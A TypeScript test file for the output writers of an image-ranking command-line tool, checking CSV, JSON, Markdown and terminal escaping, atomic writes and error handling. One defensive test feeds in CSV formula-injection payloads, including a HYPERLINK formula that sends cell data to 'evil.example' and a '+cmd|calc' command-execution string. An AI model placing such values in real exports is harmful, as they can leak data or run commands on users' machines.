import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdir, readFile, readdir, stat, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { openRankWriter, type OutputFormat, type RankRecord } from '../src/io/writers/index.js';
import { chooseFormat } from '../src/cli/formats.js';
import { markdownCell } from '../src/io/writers/markdown.js';
import { restoreCsvText } from '../src/io/writers/csv.js';
import { renderTable, terminalSafe } from '../src/io/table.js';
import { nodeAtomicFs, type AtomicFs } from '../src/io/atomic.js';
import { discoverImages } from '../src/io/discover.js';
import { InputError, UsageError } from '../src/errors.js';
import { makeTempDir, removeTempDirs } from './helpers/hub-temp.js';

after(removeTempDirs);

/** Paths and prompts that break naive writers: separators, quotes, line breaks, markup, escapes. */
const RECORDS: RankRecord[] = [
  { path: './imgs/a, b.png', prompt: 'a "cat", on a mat', score: 21.123456789012345, prob: 0.6224593312018546, rank: 1, width: 512, height: 768, error: null, contentHash: 'ab'.repeat(32) },
  { path: 'imgs/line\nbreak\r\nname.png', prompt: 'a "cat", on a mat', score: 20.623456789, prob: 0.3775406687981454, rank: 2, width: 64, height: 64, error: null, contentHash: 'cd'.repeat(32) },
  { path: 'imgs/pipe|back\\slash <b>*x*</b>.png', prompt: 'a "cat", on a mat', score: null, prob: null, rank: null, width: null, height: null, error: 'cannot decode: "truncated", line 1\nline 2', contentHash: null },
  { path: 'imgs/bad\\xFF.png', prompt: 'second\nprompt | with pipe', score: -3.5e-7, prob: 1, rank: 1, width: 5, height: 3, error: null, contentHash: 'ef'.repeat(32) },
];

const PROVENANCE = { model: 'tiny-clip', fingerprint: 'f'.repeat(16), precision: 'fp32', sourceFiles: [{ name: 'model.safetensors', sha256: '0'.repeat(64) }] };

const tempDir = (): Promise<string> => makeTempDir('writers');

async function writeAll(format: OutputFormat, file: string, records = RECORDS, incomplete = false): Promise<string> {
  const writer = await openRankWriter(format, { path: file }, { provenance: PROVENANCE, contentHash: true });
  for (const rec of records) await writer.write(rec);
  await writer.finish({ incomplete });
  return readFile(file, 'utf8');
}

/** The fields as a record serialises them: numbers in full precision, null as null. */
function expectedObject(rec: RankRecord): Record<string, unknown> {
  return { path: rec.path, prompt: rec.prompt, score: rec.score, prob: rec.prob, rank: rec.rank, width: rec.width, height: rec.height, error: rec.error, contentHash: rec.contentHash };
}

test('CSV round-trips commas, quotes and line breaks through an independent parser (Python csv)', async () => {
  const file = path.join(await tempDir(), 'out.csv');
  await writeAll('csv', file);
  const parsed = JSON.parse(
    execFileSync('/usr/bin/python3', ['-c', 'import csv, json, sys; print(json.dumps(list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))))', file], { encoding: 'utf8' }),
  ) as string[][];
  assert.deepEqual(parsed[0], ['path', 'prompt', 'score', 'prob', 'rank', 'width', 'height', 'error', 'contentHash']);
  assert.equal(parsed.length, RECORDS.length + 1);
  RECORDS.forEach((rec, i) => {
    const row = parsed[i + 1];
    const asText = (v: string | number | null | undefined): string => (v === null || v === undefined ? '' : String(v));
    assert.deepEqual(row, [rec.path, rec.prompt, rec.score, rec.prob, rec.rank, rec.width, rec.height, rec.error, rec.contentHash].map(asText));
    if (rec.score !== null) assert.equal(Number(row[2]), rec.score, 'scores keep full precision');
  });
});

test('CSV: text cells a spreadsheet would run as formulas get a leading quote, numbers stay numbers, and restoreCsvText gives back the text', async () => {
  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|calc!A0.png', '-rf.png', '@SUM(1+1)', '\tTAB', '\rCR', "'=quoted", "''+twice", "'plain", 'plain'];
  const written = ['\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'+cmd|calc!A0.png", "'-rf.png", "'@SUM(1+1)", "'\tTAB", "'\rCR", "''=quoted", "'''+twice", "'plain", 'plain'];
  const records: RankRecord[] = hostile.map((text, i) => ({
    path: text, prompt: text, score: i % 2 ? -5.4 : 21.5, prob: 0.1, rank: i + 1, width: 2, height: 2, error: i % 2 ? text : null, contentHash: 'ab'.repeat(32),
  }));
  const file = path.join(await tempDir(), 'hostile.csv');
  await writeAll('csv', file, records);
  const [header, ...rows] = JSON.parse(
    execFileSync('/usr/bin/python3', ['-c', 'import csv, json, sys; print(json.dumps(list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))))', file], { encoding: 'utf8' }),
  ) as string[][];
  const column = (name: string): number => header.indexOf(name);
  assert.equal(rows.length, hostile.length);
  rows.forEach((row, i) => {
    assert.equal(row[column('path')], written[i], `path ${JSON.stringify(hostile[i])}`);
    assert.equal(row[column('prompt')], written[i], `prompt ${JSON.stringify(hostile[i])}`);
    assert.equal(row[column('error')], i % 2 ? written[i] : '');
    assert.equal(row[column('score')], i % 2 ? '-5.4' : '21.5', 'a negative score is a number, not neutralised');
    assert.deepEqual([row[column('path')], row[column('prompt')]].map(restoreCsvText), [hostile[i], hostile[i]]);
  });
  for (const cell of rows.flatMap((row) => [row[column('path')], row[column('prompt')], row[column('error')]])) {
    assert.doesNotMatch(cell, /^[=+\-@\t\r]/, 'no text cell begins a formula');
  }
});

test('JSON is one document with schemaVersion, provenance, rows and the incomplete flag', async () => {
  const dir = await tempDir();
  for (const incomplete of [false, true]) {
    const doc = JSON.parse(await writeAll('json', path.join(dir, `out-${incomplete}.json`), RECORDS, incomplete)) as Record<string, unknown>;
    assert.deepEqual(Object.keys(doc), ['schemaVersion', 'provenance', 'rows', 'incomplete']);
    assert.equal(doc.schemaVersion, 1);
    assert.deepEqual(doc.provenance, PROVENANCE);
    assert.equal(doc.incomplete, incomplete);
    assert.deepEqual(doc.rows, RECORDS.map(expectedObject));
  }
  const empty = JSON.parse(await writeAll('json', path.join(dir, 'empty.json'), [], true)) as Record<string, unknown>;
  assert.deepEqual(empty.rows, []);
  assert.equal(empty.incomplete, true);
});

test('JSONL has one object per image and prompt with every field; NaN becomes null', async () => {
  const dir = await tempDir();
  const lines = (await writeAll('jsonl', path.join(dir, 'out.jsonl'))).split('\n');
  assert.equal(lines.pop(), '', 'ends with a newline');
  assert.deepEqual(lines.map((l) => JSON.parse(l)), RECORDS.map(expectedObject));
  const withoutHash = { ...RECORDS[0], score: Number.NaN, contentHash: undefined };
  delete withoutHash.contentHash;
  const [line] = (await writeAll('jsonl', path.join(dir, 'nan.jsonl'), [withoutHash])).split('\n');
  assert.deepEqual(Object.keys(JSON.parse(line)), ['path', 'prompt', 'score', 'prob', 'rank', 'width', 'height', 'error']);
  assert.equal(JSON.parse(line).score, null);
});

/** Splits a Markdown table row at unescaped pipes and undoes the cell escaping. */
function markdownCells(line: string): string[] {
  const cells = line.slice(2, -2).split(/(?<!\\) \| /);
  return cells.map((c) => c.replace(/<br>/g, '\n').replace(/\\(.)/g, '$1'));
}

test('Markdown is a table whose cells survive pipes, backslashes, markup and line breaks', async () => {
  const text = await writeAll('md', path.join(await tempDir(), 'out.md'), RECORDS, true);
  const lines = text.split('\n');
  assert.equal(lines[0], '| rank | score | prob | size | path | prompt | error |');
  const rows = lines.slice(2, 2 + RECORDS.length);
  rows.forEach((row, i) => {
    const rec = RECORDS[i];
    assert.equal(row.match(/(?<!\\)\|/g)?.length, 8, `row ${i} has exactly 7 cells`);
    const cells = markdownCells(row);
    assert.equal(cells[4], rec.path.replace(/\r\n/g, '\n'));
    assert.equal(cells[5], rec.prompt);
    assert.equal(cells[6], rec.error?.replace(/\r\n/g, '\n') ?? '');
  });
  assert.deepEqual(markdownCells(rows[0]).slice(0, 4), ['1', '21.1235', '0.6225', '512x768']);
  assert.deepEqual(markdownCells(rows[2]).slice(0, 4), ['-', '-', '-', '-']);
  assert.match(text, /\*\*Incomplete:\*\*/);
  assert.equal(markdownCell('a|b\\c*d_e<f>`g`'), 'a\\|b\\\\c\\*d\\_e\\<f\\>\\`g\\`');
});

test('the terminal table aligns its columns per prompt and escapes control characters', () => {
  const text = renderTable(RECORDS, { incomplete: true });
  const lines = text.split('\n');
  assert.equal(lines[0], 'prompt: a "cat", on a mat');
  assert.equal(lines[1], 'rank    score    prob  size     path');
  assert.equal(lines[2], `   1  21.1235  0.6225  512x768  ./imgs/a, b.png`);
  assert.equal(lines[3], `   2  20.6235  0.3775  64x64    imgs/line\\nbreak\\r\\nname.png`);
  assert.equal(lines[4], '   -        -       -  -        imgs/pipe|back\\slash <b>*x*</b>.png  error: cannot decode: "truncated", line 1\\nline 2');
  assert.equal(lines[6], 'prompt: second\\nprompt | with pipe');
  assert.equal(lines[8], `   1  -0.0000  1.0000  5x3      imgs/bad\\xFF.png`);
  assert.match(lines.at(-2) ?? '', /^incomplete:/);
  assert.equal(terminalSafe('a\u001b[31mred\u0007'), 'a\\x1b[31mred\\x07');
  assert.equal(renderTable([]), '');
});

test('the format follows --format, else the --out extension, else table on a TTY and JSONL in a pipe', () => {
  assert.equal(chooseFormat('md', 'x.csv', true), 'md');
  const byExtension: [string, OutputFormat][] = [
    ['r.csv', 'csv'], ['r.JSON', 'json'], ['r.jsonl', 'jsonl'], ['r.ndjson', 'jsonl'], ['r.md', 'md'], ['r.markdown', 'md'],
    ['r.html', 'html'], ['dir/r.htm', 'html'], ['ranking.txt', 'table'],
  ];
  for (const [out, format] of byExtension) assert.equal(chooseFormat(undefined, out, false), format);
  assert.equal(chooseFormat(undefined, undefined, true), 'table');
  assert.equal(chooseFormat(undefined, undefined, false), 'jsonl');
  assert.throws(() => chooseFormat('xml', undefined, true), (e: unknown) =>
    e instanceof UsageError && e.message === 'Expected csv, json, jsonl, md, html, table for --format but received "xml"');
  assert.throws(() => chooseFormat(undefined, 'ranking.xml', true), (e: unknown) =>
    e instanceof UsageError && /^Cannot tell the output format from --out ranking\.xml: use an extension \(\.csv .*\) or pass --format$/.test(e.message));
});

test('a file output appears only at finish; csv and jsonl stream rows to the temporary file meanwhile', async () => {
  for (const format of ['csv', 'jsonl', 'json', 'md'] as const) {
    const dir = await tempDir();
    const target = path.join(dir, `big.${format}`);
    await writeFile(target, 'previous');
    const writer = await openRankWriter(format, { path: target }, {});
    for (let i = 0; i < 2_000; i++) await writer.write({ ...RECORDS[0], path: `imgs/${i}.png`, rank: i + 1 });
    const temp = (await readdir(dir)).find((name) => name.endsWith('.tmp'));
    assert.ok(temp, format);
    assert.ok((await stat(path.join(dir, temp))).size > 100_000, `${format}: rows reach the disk before finish`);
    assert.equal(await readFile(target, 'utf8'), 'previous', `${format}: target untouched until finish`);
    await writer.finish({ incomplete: false });
    assert.deepEqual(await readdir(dir), [`big.${format}`]);
    assert.ok((await readFile(target, 'utf8')).includes('imgs/1999.png'));
  }
});

test('abort keeps the previous output and leaves no temporary file, for every format', async () => {
  for (const format of ['csv', 'json', 'jsonl', 'md', 'html', 'table'] as const) {
    const dir = await tempDir();
    const target = path.join(dir, 'out');
    await writeFile(target, 'previous');
    const writer = await openRankWriter(format, { path: target }, { thumbnail: async () => 'data:image/png;base64,' });
    await writer.write(RECORDS[0]);
    await writer.abort();
    assert.equal(await readFile(target, 'utf8'), 'previous', format);
    assert.deepEqual(await readdir(dir), ['out'], format);
  }
});

test('a disk that fills while writing (ENOSPC) rejects with an InputError naming the file; nothing truncated remains', async () => {
  const dir = await tempDir();
  const target = path.join(dir, 'ranking.jsonl');
  await writeFile(target, 'previous complete ranking\n');
  const fullDisk: AtomicFs = {
    ...nodeAtomicFs,
    async open(file) {
      const handle = await nodeAtomicFs.open(file);
      return { ...handle, write: async () => Promise.reject(Object.assign(new Error('ENOSPC: no space left on device'), { code: 'ENOSPC' })) };
    },
  };
  const writer = await openRankWriter('jsonl', { path: target, fs: fullDisk }, {});
  let failure: unknown;
  try {
    for (let i = 0; i < 5_000; i++) await writer.write({ ...RECORDS[0], path: `imgs/${i}.png` });
    await writer.finish({ incomplete: false });
  } catch (e) {
    failure = e;
  }
  assert.ok(failure instanceof InputError);
  assert.equal(failure.message, `Cannot write output file ${target}: no space left on the device (ENOSPC); any previous file there is unchanged`);
  assert.equal(await readFile(target, 'utf8'), 'previous complete ranking\n');
  assert.deepEqual(await readdir(dir), ['ranking.jsonl']);
  await assert.rejects(writer.write(RECORDS[0]), /already finished or aborted/);
  await writer.abort();
});

test('a stream target receives the output as written and is not ended (stdout stays usable)', async () => {
  const stream = new PassThrough();
  const chunks: Buffer[] = [];
  stream.on('data', (c: Buffer) => chunks.push(c));
  const writer = await openRankWriter('jsonl', { stream }, {});
  for (const rec of RECORDS) await writer.write(rec);
  await writer.finish({ incomplete: false });
  assert.equal(stream.writableEnded, false);
  const lines = Buffer.concat(chunks).toString('utf8').trim().split('\n');
  assert.deepEqual(lines.map((l) => JSON.parse(l)), RECORDS.map(expectedObject));
});

test('a stream that fails (a closed pipe) rejects with an InputError', async () => {
  const stream = new PassThrough({ write: (_chunk, _enc, cb) => cb(Object.assign(new Error('write EPIPE'), { code: 'EPIPE' })) });
  stream.on('error', () => undefined);
  const writer = await openRankWriter('csv', { stream }, {});
  await writer.write(RECORDS[0]);
  await assert.rejects(writer.finish({ incomplete: false }), (e: unknown) => e instanceof InputError && /EPIPE/.test(e.message));
});

test('odd file names found on disk round-trip through CSV and JSON, and the parsed paths open the files', async () => {
  const dir = await tempDir();
  const names = ['comma, name.png', 'quote "name".png', "apostrophe's.png", 'new\nline.png', 'carriage\rreturn.png', 'tab\tname.png', 'ünïcödé 猫.png', 'pipe|name.png'];
  await mkdir(path.join(dir, 'imgs'));
  for (const name of names) await writeFile(path.join(dir, 'imgs', name), name);
  await writeFile(Buffer.concat([Buffer.from(path.join(dir, 'imgs', 'latin1-')), Buffer.from([0xe9]), Buffer.from('.png')]), 'latin1');
  const found = await discoverImages(['imgs'], { cwd: dir });
  assert.equal(found.length, names.length + 1);
  const records = found.map((f, i): RankRecord => ({ path: f.path, prompt: 'p', score: 20 - i, prob: null, rank: i + 1, width: 1, height: 1, error: null }));

  const csvFile = path.join(dir, 'out.csv');
  await writeAll('csv', csvFile, records);
  const csvPaths = (JSON.parse(
    execFileSync('/usr/bin/python3', ['-c', 'import csv, json, sys; print(json.dumps([r[0] for r in csv.reader(open(sys.argv[1], newline="", encoding="utf-8"))][1:]))', csvFile], { encoding: 'utf8' }),
  ) as string[]);
  const jsonPaths = (JSON.parse(await writeAll('json', path.join(dir, 'out.json'), records)) as { rows: { path: string }[] }).rows.map((r) => r.path);
  for (const parsed of [csvPaths, jsonPaths]) {
    assert.deepEqual(parsed, found.map((f) => f.path));
    for (const [i, p] of parsed.entries()) {
      // The non-UTF-8 name reads back as its escaped text; the file itself opens through rawAbsolute.
      const bytes = found[i].rawAbsolute ? await readFile(found[i].rawAbsolute!) : await readFile(path.join(dir, p));
      assert.ok(bytes.length > 0, p);
    }
  }
  assert.ok(csvPaths.includes('imgs/latin1-\\xE9.png'));
});
